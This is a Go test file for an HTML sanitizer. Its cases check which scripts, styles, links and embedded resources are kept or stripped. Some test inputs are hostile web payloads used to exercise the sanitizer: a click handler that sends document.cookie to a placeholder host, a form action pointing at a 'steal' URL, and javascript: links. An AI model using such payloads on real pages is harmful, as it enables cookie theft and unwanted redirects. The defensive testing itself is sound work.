package htmlpage_test

import (
	"os/exec"
	"strings"
	"testing"

	"github.com/insightedge/insightedge/shared/office/htmlpage"
)

func runCmd(name string, args ...string) ([]byte, error) {
	return exec.Command(name, args...).CombinedOutput()
}

func TestSanitize(t *testing.T) {
	tests := []struct {
		name    string
		in      string
		keep    []string
		drop    []string
		removed int
	}{
		{name: "inline script and style stay",
			in:   `<style>.a{color:red}</style><div class="a" onclick="this.classList.toggle('on')">x</div><script>document.title='t'</script>`,
			keep: []string{`<style>.a{color:red}</style>`, `onclick="this.classList.toggle(&#39;on&#39;)"`, `<script>document.title='t'</script>`}},
		{name: "external script", in: `<script src="https://cdn.example.com/x.js"></script><p>ok</p>`,
			keep: []string{"<p>ok</p>"}, drop: []string{"cdn.example.com", "<script"}, removed: 1},
		{name: "frames and objects", in: `<iframe src="https://evil"></iframe><object data="x.swf"></object><embed src="y"><p>ok</p>`,
			keep: []string{"<p>ok</p>"}, drop: []string{"iframe", "object", "embed"}, removed: 3},
		{name: "link and meta", in: `<link rel="stylesheet" href="https://x/y.css"><meta http-equiv="refresh" content="0;url=https://x"><p>ok</p>`,
			drop: []string{"<link", "<meta", "https://x"}, removed: 2},
		{name: "remote image", in: `<img src="https://tracker/p.gif" alt="a">`, keep: []string{`alt="a"`}, drop: []string{"tracker"}, removed: 1},
		{name: "data image", in: `<img src="data:image/png;base64,AAAA">`, keep: []string{`src="data:image/png;base64,AAAA"`}},
		{name: "network handler", in: `<button onclick="fetch('https://x/'+document.cookie)">x</button>`, drop: []string{"fetch"}, removed: 1},
		{name: "location handler", in: `<a onmouseover="location='https://x'">x</a>`, drop: []string{"onmouseover"}, removed: 1},
		{name: "javascript link", in: `<a href="javascript:alert(1)">x</a><a href=" JaVaScRiPt:alert(2)">y</a>`, drop: []string{"javascript", "JaVaScRiPt"}, removed: 2},
		{name: "plain link stays", in: `<a href="https://zh.wikipedia.org/wiki/勾股定理">维基百科</a>`, keep: []string{`href="https://zh.wikipedia.org/wiki/勾股定理"`}},
		{name: "css import and url", in: `<style>@import url(https://x/a.css); .b{background:url('https://x/b.png')} .c{background:url(data:image/png;base64,AA)}</style>`,
			keep: []string{"url(data:image/png;base64,AA)"}, drop: []string{"@import", "https://x"}, removed: 1},
		{name: "style attribute url", in: `<div style="background:url(https://x/b.png)">x</div>`, drop: []string{"https://x"}, removed: 1},
		{name: "form action", in: `<form action="https://x/steal"><input name="a"><button formaction="https://y">go</button></form>`, drop: []string{"https://"}, removed: 2},
		{name: "svg use", in: `<svg><use href="https://x/sprite.svg#a"></use><use href="#local"></use></svg>`, keep: []string{`href="#local"`}, drop: []string{"https://x"}, removed: 1},
		{name: "full document", in: `<!DOCTYPE html><html><head><title>T</title><style>p{margin:0}</style><script src="//x/y.js"></script></head><body><p>body</p></body></html>`,
			keep: []string{"<style>p{margin:0}</style>", "<p>body</p>"}, drop: []string{"<title>", "//x/y.js", "<html", "<body"}, removed: 1},
		{name: "head script moves after the body", in: `<html><head><script>function hi(){return 1}</script></head><body><p onclick="hi()">x</p></body></html>`,
			keep: []string{`<p onclick="hi()">x</p><script>function hi(){return 1}</script>`}},
		{name: "comments go", in: `<p>a</p><!-- <script src=x></script> -->`, drop: []string{"<!--"}},
	}
	for _, tt := range tests {
		got, removed, err := htmlpage.Sanitize(tt.in)
		if err != nil {
			t.Fatalf("%s: %v", tt.name, err)
		}
		for _, k := range tt.keep {
			if !strings.Contains(got, k) {
				t.Errorf("%s: %q lost from %q", tt.name, k, got)
			}
		}
		for _, d := range tt.drop {
			if strings.Contains(got, d) {
				t.Errorf("%s: %q kept in %q", tt.name, d, got)
			}
		}
		if removed != tt.removed {
			t.Errorf("%s: removed %d, want %d (%q)", tt.name, removed, tt.removed, got)
		}
	}
}
